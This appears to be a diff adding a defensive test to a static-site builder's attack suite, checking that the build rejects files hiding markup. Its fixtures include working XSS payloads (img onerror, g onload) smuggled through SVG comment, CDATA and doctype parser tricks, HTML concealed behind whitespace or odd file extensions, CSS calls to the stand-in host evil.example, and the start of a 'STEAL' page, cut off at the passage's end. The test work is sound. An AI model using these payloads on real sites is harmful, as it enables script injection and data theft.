@@ -50,6 +50,34 @@ def active_files(arena: Arena) -> Outcome:
         not built and harmless == 0)
 
 
+BLANKS = " \n" * 750
+PAGE_IN_XML = '<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>'
+HIDDEN = {
+    **{f"a.{ending}": BLANKS + PAGE_IN_XML for ending in ["dae", "xspf", "x3d", "opf", "ncx", "ttml"]},
+    **{f"a.{ending}": "<!doctype html><script>1</script>" for ending in ["avif", "heic", "opus", "woff2", "webp"]},
+    "empty-comment.svg": "<!--><img src=x onerror=alert(1)>-->" + SVG % "",
+    "short-comment.svg": "<!---><img src=x onerror=alert(1)>-->" + SVG % "",
+    "bang-comment.svg": "<!-- --!><img src=x onerror=alert(1)>-->" + SVG % "",
+    "instruction.svg": "<?xml a='><img src=x onerror=alert(1)>'?>" + SVG % "",
+    "section.svg": SVG % "<desc><p><![CDATA[><img src=x onerror=alert(1)>]]></p></desc>",
+    "doctype.svg": "<!DOCTYPE svg SYSTEM '><!--'>" + SVG % "<g onload='alert(1)'/><!-- -->",
+    "end-tag.svg": "<!-- c -->" + SVG % "<g></g a='><!--'><img src=x onerror=alert(1)>-->",
+    "raw-style.svg": "<!-- c -->" + SVG % "<p/><style><!--</style><img src=x onerror=alert(1)>--></style>",
+    "import.svg": SVG % "<style>a{}<!-- c -->@import 'https://evil.example/a.css';</style>",
+    "url.svg": SVG % "<style>a{}<!-- c -->b{fill:url(https://evil.example)}</style>",
+}
+
+
+@attack("markup is not hidden in linked files by blanks, endings, comments or styles", before="21 of 21 published")
+def hidden_markup(arena: Arena) -> Outcome:
+    built = []
+    for name, text in HIDDEN.items():
+        site = arena.site(linking({name: text}))
+        if arena.build(site).status != 1 or any(path.endswith(name) for path in published(site)):
+            built.append(name)
+    return Outcome(f"{len(built)} of {len(HIDDEN)} published {' '.join(built)}".strip(), not built)
+
+
 PAGE = "terms/t/physics/"
 PASSPHRASE = "walnut teapot harvest oyster velvet pigeon"
 STEAL = """<!doctype html><title>evil</title><script type="module">
